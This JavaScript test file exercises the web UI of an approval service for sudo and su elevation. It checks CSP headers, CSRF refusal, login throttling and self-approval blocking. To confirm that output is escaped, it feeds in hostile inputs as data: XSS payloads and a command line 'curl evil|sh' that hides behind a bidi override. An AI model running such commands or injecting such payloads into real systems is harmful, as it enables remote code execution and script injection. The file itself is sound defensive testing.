// web.test.mjs: the approver web UI in headless Chromium (Debian's
// /usr/bin/chromium, driven by playwright-core), against the real approvald
// and PostgreSQL that run.sh started, with elevation requests made by the
// real PAM module (pamdrive under pam_wrapper). Run by run.sh only: it
// needs the environment run.sh exports.
// Cases: security headers; wrong password refused (generic message, then a
// delay); sign in; a PAM request appears on the pending page without reload;
// approve from the page releases the PAM call; deny with comment fails it
// and shows the comment; a command holding HTML shows as text; a POST
// without (or with a wrong) CSRF token is 403; history with filters;
// the nav's pending count follows arrivals and decisions on the history and
// request pages (one long-poll loop for the whole app); sign-out ends the
// session on the server; self-approval is disabled in the UI and refused by
// the server. Screenshots: pending, detail, history.

import {test, before, after} from 'node:test';
import assert from 'node:assert/strict';
import {spawn} from 'node:child_process';
import {join} from 'node:path';
import {envOf} from './common.mjs';
import {launch} from './launch.mjs';

const env = envOf('run.sh');
const URL0 = env('APPROVALD_URL');
const SHOTS = env('SCREENSHOT_DIR');
const CODE_RE = /[0-9A-HJKMNP-TV-Z]{3}-[0-9A-HJKMNP-TV-Z]{3}/;
const LIVE_MS = 5000;     // "within a second", asserted with a generous bound

let ctx;
let page;
let browser;
const children = new Set();

// ---- helpers --------------------------------------------------------------

// Start the real module through pamdrive as unix user `user`; resolves
// `code` once the module printed the request code, `done` when it exits.
function startPam(name, {user = 'alice', reason, ticket, args = [], extraEnv = {}} = {}) {
  const childEnv = {
    ...process.env,
    LD_PRELOAD: 'libpam_wrapper.so',
    PAM_WRAPPER: '1',
    PAM_WRAPPER_SERVICE_DIR: env('PAM_SERVICE_DIR'),
  };
  if (process.env.SANITIZE && process.env.SANITIZE !== 'none') {
    // as tests/lib/harness.sh run_pamdrive: no RTLD_DEEPBIND under ASan
    childEnv.PAM_WRAPPER_DISABLE_DEEPBIND = '1';
    childEnv.UID_WRAPPER_DISABLE_DEEPBIND = '1';
    childEnv.ASAN_OPTIONS = [process.env.ASAN_OPTIONS, 'verify_asan_link_order=0'].filter(Boolean).join(':');
  }
  delete childEnv.APPROVAL_REASON;
  delete childEnv.APPROVAL_TICKET;
  if (reason) childEnv.APPROVAL_REASON = reason;
  if (ticket) childEnv.APPROVAL_TICKET = ticket;
  Object.assign(childEnv, extraEnv);
  const proc = spawn(env('PAMDRIVE'),
    ['--service', env('PAM_SERVICE'), '--user', user, '--op', 'account', ...args],
    {env: childEnv, stdio: ['ignore', 'pipe', 'pipe']});
  children.add(proc);
  let out = '';
  let resolveCode;
  const code = new Promise((res) => { resolveCode = res; });
  const onData = (d) => {
    out += d;
    const m = CODE_RE.exec(out);
    if (m) resolveCode(m[0]);
  };
  proc.stdout.on('data', onData);
  proc.stderr.on('data', onData);
  const done = new Promise((res) => proc.on('exit', (rc) => {
    children.delete(proc);
    resolveCode(null);
    res({rc, out});
  }));
  return {name, proc, code: withTimeout(code, 20000, `${name}: no request code`), done, out: () => out};
}

function withTimeout(p, ms, what) {
  let t;
  return Promise.race([p, new Promise((_, rej) => { t = setTimeout(() => rej(new Error(`${what} within ${ms} ms`)), ms); })])
    .finally(() => clearTimeout(t));
}

async function api(method, path, {token, body, cookie, headers = {}} = {}) {
  const h = {...headers};
  if (token) h.Authorization = `Bearer ${token}`;
  if (cookie) h.Cookie = cookie;
  if (body !== undefined) h['Content-Type'] = 'application/json';
  const res = await fetch(URL0 + path, {method, headers: h, body: body === undefined ? undefined : JSON.stringify(body), redirect: 'manual'});
  const text = await res.text();
  let json = null;
  try { json = JSON.parse(text); } catch (e) { /* not JSON */ }
  return {status: res.status, headers: res.headers, json, text};
}

async function requestByCode(code) {
  const r = await api('GET', `/v1/requests/${code}`, {cookie: await cookieHeader()});
  assert.equal(r.status, 200, `GET /v1/requests/${code}: ${r.text}`);
  return r.json;
}

async function cookieHeader() {
  const cs = await ctx.cookies(URL0);
  return cs.map((c) => `${c.name}=${c.value}`).join('; ');
}

async function signIn(login, password) {
  await page.goto(`${URL0}/ui/`);
  await page.locator('#login').fill(login);
  await page.locator('#password').fill(password);
  await page.getByRole('button', {name: 'Sign in'}).click();
  await page.locator('h1', {hasText: 'Pending requests'}).waitFor({timeout: 10000});
}

async function signOut() {
  await page.locator('#logout').click();
  await page.locator('#login').waitFor({timeout: 10000});
}

const shot = (name, opts = {}) => page.screenshot({path: join(SHOTS, `${name}.png`), fullPage: true, ...opts});

// ---- setup ----------------------------------------------------------------

before(async () => {
  browser = await launch();
  ({ctx, page} = browser);
  page.on('pageerror', (e) => console.error('# page error:', e.message));
});

after(async () => {
  for (const p of children) p.kill('SIGINT');   // the module cancels its request
  await Promise.all([...children].map((p) => new Promise((r) => p.on('exit', r))));
  if (browser) await browser.close();
});

// The PAM calls run as root (pamdrive under pam_wrapper), so the module
// reports the requester as root: approver sam (unix login root) is that
// requester for the self-approval case; carol is not.

// ---- cases ----------------------------------------------------------------

test('pages carry CSP without inline script, nosniff, no framing, referrer policy', async () => {
  const r = await api('GET', '/ui/');
  assert.equal(r.status, 200);
  assert.match(r.headers.get('content-type'), /^text\/html/);
  const csp = r.headers.get('content-security-policy');
  assert.match(csp, /script-src 'self'(;|$)/);
  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
  assert.match(csp, /frame-ancestors 'none'/);
  assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
  assert.ok(r.headers.get('referrer-policy'));
  assert.ok(!/<script>/.test(r.text) && !/ on[a-z]+=/.test(r.text), 'no inline script in the HTML');
  const js = await api('GET', '/ui/static/app.js');
  assert.match(js.headers.get('content-type'), /^text\/javascript/);
  const etag = js.headers.get('etag');
  assert.ok(etag);
  const again = await api('GET', '/ui/static/app.js', {headers: {'If-None-Match': etag}});
  assert.equal(again.status, 304);
  assert.equal((await api('GET', '/ui/static/nope.js')).status, 404);
  const root = await api('GET', '/');
  assert.equal(root.status, 302);
  assert.equal(root.headers.get('location'), '/ui/');
});

test('a wrong password is refused with a generic message, then delayed', async () => {
  await page.goto(`${URL0}/ui/`);
  await page.locator('#login').fill('carol');
  await page.locator('#password').fill('not-the-password');
  await page.getByRole('button', {name: 'Sign in'}).click();
  await page.locator('.error', {hasText: 'wrong login or password'}).waitFor({timeout: 10000});
  await shot('signin');
  assert.equal((await ctx.cookies(URL0)).length, 0, 'no session cookie after a failure');
  // an unknown login gets exactly the same answer
  const a = await api('POST', '/v1/session', {body: {login: 'carol', password: 'nope'}});
  const b = await api('POST', '/v1/session', {body: {login: 'mallory', password: 'nope'}});
  assert.equal(a.status, 401);
  assert.equal(b.status, 401);
  assert.deepEqual(a.json, b.json);
  // mallory: third failure above; more tries at once are held off
  await api('POST', '/v1/session', {body: {login: 'mallory', password: 'nope'}});
  await api('POST', '/v1/session', {body: {login: 'mallory', password: 'nope'}});
  const c = await api('POST', '/v1/session', {body: {login: 'mallory', password: 'nope'}});
  assert.equal(c.status, 429, c.text);
  assert.ok(Number(c.headers.get('retry-after') || c.json.retry_after) > 0);
  // a malformed body is 400, not a sign-in
  assert.equal((await api('POST', '/v1/session', {body: {login: 'carol', password: 'x', admin: true}})).status, 400);
});

test('sign in', async () => {
  await signIn('carol', env('CAROL_PASSWORD'));
  const cookies = await ctx.cookies(URL0);
  const c = cookies.find((x) => x.name === 'approvald_session');
  assert.ok(c, 'session cookie set');
  assert.equal(c.httpOnly, true);
  assert.equal(c.sameSite, 'Strict');
  assert.equal(c.path, '/');
  assert.equal(await page.locator('#who-name').textContent(), 'Carol Example');
  const me = await api('GET', '/v1/session', {cookie: await cookieHeader()});
  assert.equal(me.status, 200);
  assert.equal(me.json.login, 'carol');
  assert.match(me.json.csrf_token, /^[A-Za-z0-9_-]{43}$/);
});

let reqA;
test('a request made through the PAM module appears on the pending page without reload', async () => {
  await page.goto(`${URL0}/ui/`);
  await page.locator('h1', {hasText: 'Pending requests'}).waitFor();
  await page.evaluate(() => { window.__sameDocument = true; });
  reqA = startPam('approve', {reason: 'deploy hotfix 7', ticket: 'OPS-42'});
  const code = await reqA.code;
  reqA.codeText = code;
  const t0 = Date.now();
  const row = page.locator('#pending-list li', {hasText: code});
  await row.waitFor({timeout: LIVE_MS});
  const took = Date.now() - t0;
  console.log(`# request ${code} appeared after ${took} ms`);
  assert.equal(await page.evaluate(() => window.__sameDocument), true, 'the page was not reloaded');
  const text = await row.textContent();
  for (const want of ['alice', 'root', 'web1', 'deploy hotfix 7', 'OPS-42', 'requester-supplied', 'asked', 'gives up']) {
    assert.ok(text.includes(want), `row shows ${want}: ${text}`);
  }
  assert.ok(await row.locator('.badge-pending').count(), 'state shown as a badge');
});

test('approving from the page releases the waiting PAM call', async () => {
  await page.locator('#pending-list li', {hasText: reqA.codeText}).locator('a').click();
  await page.locator('#approve').waitFor();
  assert.match(page.url(), /\/ui\/requests\/[0-9a-f-]{36}$/);
  await page.locator('#comment').fill('looks fine');
  await page.locator('#approve').click();
  await page.locator('#confirm-approve').click();    // Approve asks again
  await page.locator('.flash', {hasText: 'You approved this request.'}).waitFor({timeout: 10000});
  const res = await withTimeout(reqA.done, 20000, 'pamdrive after approval');
  assert.equal(res.rc, 0, res.out);
  assert.match(res.out, /RESULT: PAM_SUCCESS/);
  const d = await requestByCode(reqA.codeText);
  assert.equal(d.status, 'approved');
  assert.equal(d.decided_by, 'carol');
  assert.equal(d.comment, 'looks fine');
  // the page shows the decision and its history
  await page.locator('.decided .badge-approved').waitFor();
  assert.ok((await page.locator('.timeline').textContent()).includes('approved'));
});

test('deny with a comment: the PAM call fails and shows the comment', async () => {
  const b = startPam('deny', {reason: 'restart db'});
  const code = await b.code;
  await page.goto(`${URL0}/r/${code}`);       // the link the module prints
  await page.locator('#deny').waitFor();
  assert.match(page.url(), /\/ui\/requests\/[0-9a-f-]{36}$/);
  await page.locator('#comment').fill('not during the freeze');
  await page.locator('#deny').click();
  await page.locator('.flash', {hasText: 'You denied this request.'}).waitFor({timeout: 10000});
  const res = await withTimeout(b.done, 20000, 'pamdrive after denial');
  assert.notEqual(res.rc, 0);
  assert.doesNotMatch(res.out, /RESULT: PAM_SUCCESS/);
  assert.match(res.out, /not during the freeze/);
  assert.equal((await requestByCode(code)).status, 'denied');
});

const HOSTILE = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">';
let reqC;
test('a command containing HTML is shown as text', async () => {
  await page.goto(`${URL0}/ui/`);
  await page.locator('h1', {hasText: 'Pending requests'}).waitFor();
  // through the module: the command line carries the HTML
  reqC = startPam('html', {args: ['--answer', HOSTILE], reason: '<b>bold</b>', ticket: 'INC-<i>9</i>'});
  const code = await reqC.code;
  reqC.codeText = code;
  const row = page.locator('#pending-list li', {hasText: code});
  await row.waitFor({timeout: LIVE_MS});
  assert.ok((await row.locator('.cmd').textContent()).includes(HOSTILE), 'command text verbatim');
  assert.ok((await row.textContent()).includes('<b>bold</b>'), 'reason verbatim');
  assert.ok((await row.textContent()).includes('INC-<i>9</i>'), 'ticket verbatim');
  assert.equal(await page.locator('main img, main script, main b, main i').count(), 0, 'no element came from the data');
  await row.locator('a').click();
  await page.locator('#cmd').waitFor();
  assert.ok((await page.locator('#cmd').textContent()).includes(HOSTILE));
  assert.equal(await page.locator('main img, main script, main b, main i').count(), 0);
  // straight from a host (the module already strips bidi controls; a
  // buggy or hostile host may not): hidden characters are shown, not obeyed
  const f = await api('POST', '/v1/requests', {token: env('HOST_TOKEN_DB2'), body: {service: 'sudo',
    user: 'mallory', uid: 1666, target_user: 'root', hostname: 'db2<svg onload=alert(1)>',
    command: 'rm -rf /tmp/x \u202E; curl evil|sh', reason: '<img src=x onerror=alert(2)>'}});
  assert.equal(f.status, 201, f.text);
  await page.goto(`${URL0}/ui/requests/${f.json.id}`);
  await page.locator('#cmd').waitFor();
  assert.ok((await page.locator('#cmd').textContent()).includes('<U+202E>'), 'bidi override made visible');
  assert.ok((await page.locator('main').textContent()).includes('db2<svg onload=alert(1)>'));
  assert.equal(await page.locator('main img, main script, main svg').count(), 0);
  assert.equal(await page.evaluate(() => window.__pwned), undefined, 'nothing ran');
  const gone = await api('POST', `/v1/requests/${f.json.id}/cancel`, {token: env('HOST_TOKEN_DB2')});
  assert.equal(gone.status, 200, gone.text);
});

test('a command cut for display says so, with how much is shown', async () => {
  const text = 'sudo ' + 'x'.repeat(8180) + '...';
  const f = await api('POST', '/v1/requests', {token: env('HOST_TOKEN_DB2'), body: {service: 'sudo',
    user: 'mallory', uid: 1666, target_user: 'root', hostname: 'db2', command: text,
    command_length: 70012, command_shown: 8186, command_truncated: true,
    command_sha256: 'ab'.repeat(32)}});
  assert.equal(f.status, 201, f.text);
  await page.goto(`${URL0}/ui/`);
  const row = page.locator('#pending-list li', {hasText: f.json.code});
  await row.waitFor({timeout: LIVE_MS});
  assert.equal(await row.locator('.cmd-cut').textContent(), 'command cut: 8186 of 70012 bytes shown');
  await page.goto(`${URL0}/ui/requests/${f.json.id}`);
  await page.locator('#cmd').waitFor();
  assert.equal(await page.locator('#cmd-cut').textContent(), 'command cut: 8186 of 70012 bytes shown');
  const gone = await api('POST', `/v1/requests/${f.json.id}/cancel`, {token: env('HOST_TOKEN_DB2')});
  assert.equal(gone.status, 200, gone.text);
  // a command that was not cut carries no such note
  await page.goto(`${URL0}/ui/requests/${reqC.codeText}`);
  await page.locator('#cmd').waitFor();
  assert.equal(await page.locator('#cmd-cut').count(), 0);
});

test('reported context is labelled "reported by the requester", the process chain "observed"', async () => {
  const prompt = 'restart nginx <b>now</b> (asked by dana)';
  const b = startPam('agent', {extraEnv: {APPROVAL_AGENT: 'claude-code/2.1',
    APPROVAL_RUN_URL: 'javascript:alert(1)', APPROVAL_COMMIT: '3f2a9c1', APPROVAL_PROMPT: prompt}});
  const code = await b.code;
  await page.goto(`${URL0}/r/${code}`);
  await page.locator('#initiator').waitFor();
  assert.match(await page.locator('#initiator h2').textContent(), /agent/);
  const reported = page.locator('#reported');
  for (const [label, value] of [['Agent', 'claude-code/2.1'], ['Commit', '3f2a9c1'], ['Prompt', prompt],
    ['Run', 'javascript:alert(1)']]) {
    const dt = reported.locator('dt', {hasText: label});
    assert.equal(await dt.locator('.note').textContent(), 'reported by the requester', `${label} labelled`);
    assert.equal(await dt.locator('xpath=following-sibling::dd[1]').textContent(), value, `${label} shown as text`);
  }
  assert.equal(await page.locator('#initiator a, #initiator b').count(), 0, 'no link or element from reported text');
  const chain = page.locator('#observed dt', {hasText: 'Process chain'});
  assert.equal(await chain.locator('.note').textContent(), 'observed');
  const items = page.locator('#observed ol.ancestry li');
  assert.ok(await items.count() >= 2, 'the chain has the module run and its parent');
  assert.match(await items.last().textContent(), /pamdrive/, 'the elevating process last (eldest first)');
  await page.screenshot({path: join(SHOTS, 'agent-detail.png'), fullPage: true});
  b.proc.kill('SIGINT');
  const res = await withTimeout(b.done, 20000, 'pamdrive after SIGINT');
  assert.notEqual(res.rc, 0);
});

test('a POST without the CSRF token (or with a wrong one) is refused with 403', async () => {
  const d = await requestByCode(reqC.codeText);
  const results = await page.evaluate(async (id) => {
    const post = async (headers) => (await fetch(`/v1/requests/${id}/approve`, {
      method: 'POST', credentials: 'same-origin',
      headers: {'Content-Type': 'application/json', ...headers}, body: '{}'})).status;
    return {
      none: await post({}),
      wrong: await post({'X-CSRF-Token': 'A'.repeat(43)}),
      logout: (await fetch('/v1/session/logout', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'})).status,
    };
  }, d.id);
  assert.equal(results.none, 403);
  assert.equal(results.wrong, 403);
  assert.equal(results.logout, 403);
  assert.equal((await requestByCode(reqC.codeText)).status, 'pending', 'nothing changed');
  // a bearer token needs no CSRF token (not a browser); a cookie does
  const me = await api('GET', '/v1/session', {cookie: await cookieHeader()});
  assert.equal(me.status, 200, 'still signed in');
});

test('pending page with several requests (screenshots)', async () => {
  const mk = async (token, ctxBody) => {
    const r = await api('POST', '/v1/requests', {token, body: ctxBody});
    assert.equal(r.status, 201, r.text);
  };
  await mk(env('HOST_TOKEN_DB2'), {service: 'sudo', user: 'dave', uid: 1003, target_user: 'postgres',
    command: 'sudo -u postgres psql -c "VACUUM ANALYZE orders"', sudo_command: '/usr/bin/psql -c VACUUM ANALYZE orders',
    tty: '/dev/pts/2', cwd: '/srv/db', hostname: 'db2.prod.example', reason: 'nightly vacuum missed', ticket: 'DBA-311'});
  await mk(env('HOST_TOKEN_WEB1'), {service: 'su', user: 'erin', uid: 1004, target_user: 'root',
    command: 'su -', tty: '/dev/pts/5', rhost: '10.0.4.17', cwd: '/home/erin', hostname: 'web1.prod.example'});
  await page.goto(`${URL0}/ui/`);
  await page.locator('#pending-list li', {hasText: 'db2.prod.example'}).waitFor({timeout: LIVE_MS});
  await page.locator('#pending-list li', {hasText: 'erin'}).waitFor({timeout: LIVE_MS});
  assert.equal(await page.locator('#pending-count').textContent(), '3');
  await shot('pending');
  await page.setViewportSize({width: 390, height: 844});
  await page.reload();
  await page.locator('#pending-list li', {hasText: 'erin'}).waitFor();
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(overflow <= 0, `no sideways scrolling on a phone (${overflow}px)`);
  await shot('pending-phone', {fullPage: false});
  await page.locator('#pending-list li', {hasText: 'db2.prod.example'}).locator('a').click();
  await page.locator('#approve').waitFor();
  const overflow2 = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(overflow2 <= 0, `detail page: no sideways scrolling on a phone (${overflow2}px)`);
  await page.setViewportSize({width: 1200, height: 900});
  // the detail page of a typical sudo request, a comment typed
  await page.goto(`${URL0}/ui/`);
  await page.locator('#pending-list li', {hasText: 'db2.prod.example'}).locator('a').click();
  await page.locator('#cmd-sudo').waitFor();
  assert.ok((await page.locator('#cmd-sudo').textContent()).includes('VACUUM ANALYZE orders'));
  await page.locator('#comment').fill('ok, the nightly job failed (DBA-311)');
  await shot('detail');
});

test('history lists decided requests with filters and paging', async () => {
  await page.goto(`${URL0}/ui/history`);
  const list = page.locator('#history-list');
  await list.locator('li').first().waitFor({timeout: 10000});
  const all = await list.textContent();
  assert.ok(all.includes(reqA.codeText), 'approved request listed');
  assert.ok(all.includes('not during the freeze'), 'deny comment listed');
  assert.ok(!all.includes(reqC.codeText), 'pending requests are not history');
  await page.locator('#f-status').selectOption('denied');
  await page.getByRole('button', {name: 'Filter'}).click();
  await page.waitForURL(/status=denied/);
  await list.locator('li').first().waitFor();
  assert.equal(await list.locator('li.state-approved').count(), 0);
  assert.ok(await list.locator('li.state-denied').count() >= 1);
  await page.goto(`${URL0}/ui/history?approver=carol&requester=root&host=web1`);
  await list.locator('li').first().waitFor();
  assert.equal(await list.locator('li').count(), 2);
  await page.goto(`${URL0}/ui/history?approver=nobody`);
  await page.locator('.empty', {hasText: 'No requests match'}).waitFor();
  const today = new Date().toISOString().slice(0, 10);
  await page.goto(`${URL0}/ui/history?from=${today}&to=${today}`);
  await list.locator('li').first().waitFor();
  await page.goto(`${URL0}/ui/history?to=2000-01-01`);
  await page.locator('.empty', {hasText: 'No requests match'}).waitFor();
  // paging through the API the page uses
  const p1 = await api('GET', '/v1/requests?status=final&limit=1', {cookie: await cookieHeader()});
  assert.equal(p1.status, 200, p1.text);
  assert.equal(p1.json.requests.length, 1);
  const p2 = await api('GET', `/v1/requests?status=final&limit=1&before=${encodeURIComponent(p1.json.requests[0].created_at)}`,
    {cookie: await cookieHeader()});
  assert.equal(p2.json.requests.length, 1);
  assert.notEqual(p2.json.requests[0].id, p1.json.requests[0].id);
  await page.goto(`${URL0}/ui/history`);
  await list.locator('li').first().waitFor();
  await shot('history');
});

// The nav count follows the app's one event loop on every page, not only
// on the pending page; moving between pages starts no second loop.
test('the pending count in the navigation stays current on history and request pages', async () => {
  const count = () => page.evaluate(() => {
    const el = document.getElementById('pending-count');
    return el.hidden ? 0 : Number(el.textContent);
  });
  const countIs = (n) => page.waitForFunction((want) => {
    const el = document.getElementById('pending-count');
    return (el.hidden ? 0 : Number(el.textContent)) === want;
  }, n, {timeout: LIVE_MS});
  await page.goto(`${URL0}/ui/history`);
  await page.locator('#history-list li').first().waitFor({timeout: 10000});
  const before = (await api('GET', '/v1/requests?status=pending&limit=500', {cookie: await cookieHeader()})).json.requests.length;
  await countIs(before);
  assert.ok(before > 0, 'requests from earlier cases are still pending');
  await page.evaluate(() => { window.__sameDocument = true; });
  // long-polls in flight, counted from here on (in-app navigation only)
  const polls = new Set();
  let most = 0;
  const onReq = (r) => { if (r.url().includes('/v1/events')) { polls.add(r); most = Math.max(most, polls.size); } };
  const onEnd = (r) => polls.delete(r);
  page.on('request', onReq);
  page.on('requestfinished', onEnd);
  page.on('requestfailed', onEnd);
  try {
    for (const name of ['Pending', 'Reports', 'History', 'Pending', 'History']) {
      await page.locator('#nav a', {hasText: name}).click();
      await page.locator('h1').first().waitFor();
    }
    await page.locator('#history-list li').first().waitFor({timeout: 10000});
    // a request arrives through the module while History is open
    const n = startPam('badge', {reason: 'count check'});
    const code = await n.code;
    await countIs(before + 1);
    assert.match(page.url(), /\/ui\/history$/, 'still on the history page');
    // open a decided request in the page, then someone decides the new one
    await page.locator('#history-list li a').first().click();
    await page.locator('.timeline').waitFor({timeout: 10000});
    assert.match(page.url(), /\/ui\/requests\/[0-9a-f-]{36}$/);
    const d = await requestByCode(code);
    const st = await page.evaluate(async (id) => {
      const me = await (await fetch('/v1/session')).json();
      const r = await fetch(`/v1/requests/${id}/deny`, {method: 'POST',
        headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf_token}, body: '{"comment":"count check"}'});
      return r.status;
    }, d.id);
    assert.equal(st, 200);
    await countIs(before);
    assert.equal(await count(), before);
    const res = await withTimeout(n.done, 20000, 'pamdrive after denial');
    assert.notEqual(res.rc, 0);
    assert.equal(await page.evaluate(() => window.__sameDocument), true, 'the page was not reloaded');
    assert.ok(most <= 1, `one long-poll loop for the whole app (${most} polls were in flight at once)`);
  } finally {
    page.off('request', onReq);
    page.off('requestfinished', onEnd);
    page.off('requestfailed', onEnd);
  }
});

test('self-approval: buttons disabled with the reason, and the server refuses', async () => {
  const old = await cookieHeader();
  await signOut();
  const gone = await api('GET', '/v1/session', {cookie: old});
  assert.equal(gone.status, 401, 'the old cookie is dead on the server after sign-out');
  await signIn('sam', env('SAM_PASSWORD'));   // unix login root: the requester
  const d = await requestByCode(reqC.codeText);
  assert.equal(d.self, true);
  await page.goto(`${URL0}/ui/requests/${d.id}`);
  await page.locator('#self-note').waitFor();
  assert.equal(await page.locator('#approve').isDisabled(), true);
  assert.equal(await page.locator('#deny').isDisabled(), true);
  assert.match(await page.locator('#self-note').textContent(), /you are the requester/);
  const status = await page.evaluate(async (id) => {
    const me = await (await fetch('/v1/session')).json();
    const r = await fetch(`/v1/requests/${id}/approve`, {method: 'POST',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf_token}, body: '{}'});
    return {status: r.status, body: await r.json()};
  }, d.id);
  assert.equal(status.status, 403);
  assert.equal(status.body.error, 'self_approval');
  assert.equal((await requestByCode(reqC.codeText)).status, 'pending');
});
